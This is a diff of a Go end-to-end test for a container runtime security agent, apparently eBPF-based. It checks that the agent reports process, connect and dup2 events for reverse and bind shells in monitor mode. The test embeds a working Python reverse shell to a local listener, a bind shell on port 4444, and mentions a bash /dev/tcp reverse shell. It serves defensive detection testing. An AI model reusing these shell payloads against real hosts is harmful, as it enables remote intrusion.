@@ -30,42 +30,78 @@ import (
 // (internal/agent/testdata/jq/stream.jsonl), which the unit tests run
 // the filters on.
 
-// procsGreeting: the attacker asks the shell for its pid.
+// procsGreeting is what the attacker sends: it asks the shell for its pid.
 const procsGreeting = "echo PWNED-$((6*7)) PID=$$; exit\n"
 
 func TestProcessEventsReverseShellMonitor(t *testing.T) {
 	needHostRoot(t)
-	python, shell, runc := resolved(t, "/usr/bin/python3"), hostShell, resolved(t, testenv.RuncPath)
+	monitor := map[string]string{"ocigate.io/profile": "procs-monitor"}
+	rs := startPythonShell(t, monitor)
+	rs.checkPython(t)
+	rs.checkShell(t)
+	bashID := testBashLineage(t, monitor)
+	bindID := testBindShell(t, rs, monitor)
+
+	// The seeds' filters on this run's stream.
+	stream := streamOf(rs.id, bashID, bindID)
+	checkSeedFilters(t, stream)
+	if os.Getenv("OCIGATE_E2E_RECORD") == "1" {
+		recordStream(t, stream)
+	}
+}
+
+// pythonShell is the python3 reverse shell's run: its programs, as the
+// host resolves them, and what the test learned of it.
+type pythonShell struct {
+	python, shell, runc string
+	port                int    // the listener's
+	id                  string // the container
+	pyPid, shPid        int
+	pyID, runcID        string // exec_ids: python's and its parent's (runc)
+}
+
+// startPythonShell runs the python3 reverse shell to its end; python
+// prints its pid, the shell answers its own to the listener.
+func startPythonShell(t *testing.T, annotations map[string]string) *pythonShell {
+	t.Helper()
+	rs := &pythonShell{python: resolved(t, "/usr/bin/python3"), shell: hostShell, runc: resolved(t, testenv.RuncPath)}
 	ln := listen(t, "127.0.0.1:0", procsGreeting)
+	rs.port = ln.Port()
 	script := fmt.Sprintf(`import os,socket,subprocess,sys
 print(os.getpid(), flush=True)
 s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
 s.connect(("127.0.0.1",%d))
 os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
-subprocess.call(["/bin/sh","-i"])`, ln.Port())
-	monitor := map[string]string{"ocigate.io/profile": "procs-monitor"}
+subprocess.call(["/bin/sh","-i"])`, rs.port)
 	res := runContainer(t, ctrOpts{Name: "procs-revshell", HostRoot: true, HostPID: true, Args: []string{"/usr/bin/python3", "-c", script},
-		Annotations: monitor})
+		Annotations: annotations})
 	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
 		t.Fatalf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
 	}
-	pyPid, err := strconv.Atoi(strings.TrimSpace(res.Stdout))
-	if err != nil {
+	var err error
+	if rs.pyPid, err = strconv.Atoi(strings.TrimSpace(res.Stdout)); err != nil {
 		t.Fatalf("python printed %q, not its pid", res.Stdout)
 	}
 	m := regexp.MustCompile(`PID=(\d+)`).FindStringSubmatch(ln.Received())
 	if m == nil {
 		t.Fatalf("the shell did not answer its pid: %q", ln.Received())
 	}
-	shPid, _ := strconv.Atoi(m[1])
-	id := res.ID
+	rs.shPid, _ = strconv.Atoi(m[1])
+	rs.id = res.ID
+	return rs
+}
 
-	// python3: the container's first process, started by runc.
-	py := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": pyPid})
+// checkPython checks python3's events: the container's first process,
+// started by runc; its connect to the attacker and its dup2s, the same
+// process with the same parent.
+func (rs *pythonShell) checkPython(t *testing.T) {
+	t.Helper()
+	id, python, runc := rs.id, rs.python, rs.runc
+	py := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": rs.pyPid})
 	if py == nil {
 		t.FailNow()
 	}
-	pyID := str(py, "process_exec.process.exec_id")
+	rs.pyID = str(py, "process_exec.process.exec_id")
 	expect(t, "python3's exec", py, map[string]any{
 		"process_exec.process.binary": python, "process_exec.process.flags": "execve", "process_exec.process.docker": id,
 		"process_exec.process.pod.container.id": id, "process_exec.process.cwd": "/",
@@ -76,50 +112,57 @@ subprocess.call(["/bin/sh","-i"])`, ln.Port())
 	if args := str(py, "process_exec.process.arguments"); !strings.HasPrefix(args, "-c import os,socket,subprocess,sys") {
 		t.Errorf("python3's arguments %q", args)
 	}
-	runcID := str(py, "process_exec.parent.exec_id")
-	if runcID == "" || str(py, "process_exec.process.parent_exec_id") != runcID {
-		t.Errorf("python3's parent_exec_id %q, parent's exec_id %q", str(py, "process_exec.process.parent_exec_id"), runcID)
+	rs.runcID = str(py, "process_exec.parent.exec_id")
+	if rs.runcID == "" || str(py, "process_exec.process.parent_exec_id") != rs.runcID {
+		t.Errorf("python3's parent_exec_id %q, parent's exec_id %q", str(py, "process_exec.process.parent_exec_id"), rs.runcID)
 	}
 
-	// Its connect to the attacker: the same process, the same parent.
-	pyIs := map[string]any{"process_kprobe.process.pid.value": pyPid, "process_kprobe.process.exec_id": pyID,
-		"process_kprobe.process.binary": python, "process_kprobe.parent.exec_id": runcID, "process_kprobe.parent.binary": runc,
+	pyIs := map[string]any{"process_kprobe.process.pid.value": rs.pyPid, "process_kprobe.process.exec_id": rs.pyID,
+		"process_kprobe.process.binary": python, "process_kprobe.parent.exec_id": rs.runcID, "process_kprobe.parent.binary": runc,
 		"process_kprobe.process.docker": id, "ocigate.container_id": id}
 	waitEvent(t, id, with(pyIs, map[string]any{"process_kprobe.function_name": "tcp_connect",
-		"process_kprobe.args.0.sock_arg.daddr": "127.0.0.1", "process_kprobe.args.0.sock_arg.dport": ln.Port(),
+		"process_kprobe.args.0.sock_arg.daddr": "127.0.0.1", "process_kprobe.args.0.sock_arg.dport": rs.port,
 		"process_kprobe.args.0.sock_arg.family": "AF_INET", "process_kprobe.action": "KPROBE_ACTION_POST",
 		"ocigate.verdict": "reported"}))
 	for fd := 0; fd < 3; fd++ {
 		waitEvent(t, id, with(pyIs, map[string]any{"process_kprobe.function_name": "dup2",
 			"process_kprobe.args.1.int_arg.value": fd}))
 	}
+}
 
-	// The shell: exec'd by python (after its fork), parent python.
-	sh := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": shPid})
+// checkShell checks the shell's events: exec'd by python (after its
+// fork), parent python, what enforce mode would have done; then both
+// exits.
+func (rs *pythonShell) checkShell(t *testing.T) {
+	t.Helper()
+	id, pyID := rs.id, rs.pyID
+	sh := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": rs.shPid})
 	if sh == nil {
 		t.FailNow()
 	}
 	shID := str(sh, "process_exec.process.exec_id")
 	expect(t, "the shell's exec", sh, map[string]any{
-		"process_exec.process.binary": shell, "process_exec.process.arguments": "-i", "process_exec.process.docker": id,
-		"process_exec.parent.exec_id": pyID, "process_exec.parent.pid.value": pyPid, "process_exec.parent.binary": python,
+		"process_exec.process.binary": rs.shell, "process_exec.process.arguments": "-i", "process_exec.process.docker": id,
+		"process_exec.parent.exec_id": pyID, "process_exec.parent.pid.value": rs.pyPid, "process_exec.parent.binary": rs.python,
 		"process_exec.process.parent_exec_id": pyID,
 	})
 	if _, outside := agentlog.Field(sh, "ocigate.parent_outside_workload"); outside {
 		t.Error("the shell's parent is said to be outside the workload")
 	}
 	// What enforce mode would have done: refuse it at exec.
-	waitExecMonitored(t, id, shellDecision(t, id, shPid, shID, pyID, python, shell))
+	waitExecMonitored(t, id, shellDecision(t, id, rs.shPid, shID, pyID, rs.python, rs.shell))
 	// Both end; exit status 0, the same exec_ids.
-	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": shPid, "process_exit.process.exec_id": shID,
+	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": rs.shPid, "process_exit.process.exec_id": shID,
 		"process_exit.parent.exec_id": pyID, "process_exit.status": 0})
-	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": pyPid, "process_exit.process.exec_id": pyID,
+	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": rs.pyPid, "process_exit.process.exec_id": pyID,
 		"process_exit.status": 0})
+}
 
-	bashID := testBashLineage(t, monitor)
-
-	// A bind shell's listen on 4444, in a network namespace of its own.
-	bind := runContainer(t, ctrOpts{Name: "procs-bind", HostRoot: true, HostPID: true, OwnNetwork: true, Annotations: monitor,
+// testBindShell checks a bind shell's listen on 4444, in a network
+// namespace of its own. It returns the container's ID.
+func testBindShell(t *testing.T, rs *pythonShell, annotations map[string]string) string {
+	t.Helper()
+	bind := runContainer(t, ctrOpts{Name: "procs-bind", HostRoot: true, HostPID: true, OwnNetwork: true, Annotations: annotations,
 		Args: []string{"/usr/bin/python3", "-c", `import os,socket
 print(os.getpid(), flush=True)
 s=socket.socket(); s.bind(("0.0.0.0",4444)); s.listen(1); s.close()`}})
@@ -128,31 +171,31 @@ s=socket.socket(); s.bind(("0.0.0.0",4444)); s.listen(1); s.close()`}})
 		t.Fatalf("python printed %q, not its pid", bind.Stdout)
 	}
 	waitEvent(t, bind.ID, map[string]any{"process_kprobe.function_name": "inet_csk_listen_start",
-		"process_kprobe.process.pid.value": bindPid, "process_kprobe.process.binary": python,
+		"process_kprobe.process.pid.value": bindPid, "process_kprobe.process.binary": rs.python,
 		"process_kprobe.args.0.sock_arg.sport": 4444, "process_kprobe.args.0.sock_arg.family": "AF_INET",
-		"process_kprobe.parent.binary": runc, "ocigate.container_id": bind.ID})
+		"process_kprobe.parent.binary": rs.runc, "ocigate.container_id": bind.ID})
 	waitEvent(t, bind.ID, map[string]any{"process_exit.process.pid.value": bindPid})
-
-	// The seeds' filters on this run's stream.
-	stream := streamOf(id, bashID, bind.ID)
-	checkSeedFilters(t, stream)
-	if os.Getenv("OCIGATE_E2E_RECORD") == "1" {
-		root, err := moduleRoot()
-		if err != nil {
-			t.Fatal(err)
-		}
-		out := filepath.Join(root, "internal", "agent", "testdata", "jq", "stream.jsonl")
-		if err := os.WriteFile(out, stream, 0o644); err != nil {
-			t.Fatal(err)
-		}
-		t.Logf("recorded %d bytes of events into %s", len(stream), out)
-	}
+	return bind.ID
 }
 
-// testBashLineage: bash -c 'bash -i >& /dev/tcp/…': the outer bash forks,
-// the child connects and redirects (a process with no exec of its own:
-// flags clone, the outer bash's program), then execs bash -i, whose
-// parent is the outer bash. It returns the container's ID.
+// recordStream writes stream to the agent's testdata (OCIGATE_E2E_RECORD).
+func recordStream(t *testing.T, stream []byte) {
+	t.Helper()
+	root, err := moduleRoot()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(root, "internal", "agent", "testdata", "jq", "stream.jsonl")
+	if err := os.WriteFile(out, stream, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("recorded %d bytes of events into %s", len(stream), out)
+}
+
+// testBashLineage checks the lineage of bash -c 'bash -i >& /dev/tcp/…':
+// the outer bash forks, the child connects and redirects (a process with
+// no exec of its own: flags clone, the outer bash's program), then execs
+// bash -i, whose parent is the outer bash. It returns the container's ID.
 func testBashLineage(t *testing.T, annotations map[string]string) string {
 	t.Helper()
 	bash := resolved(t, "/bin/bash")
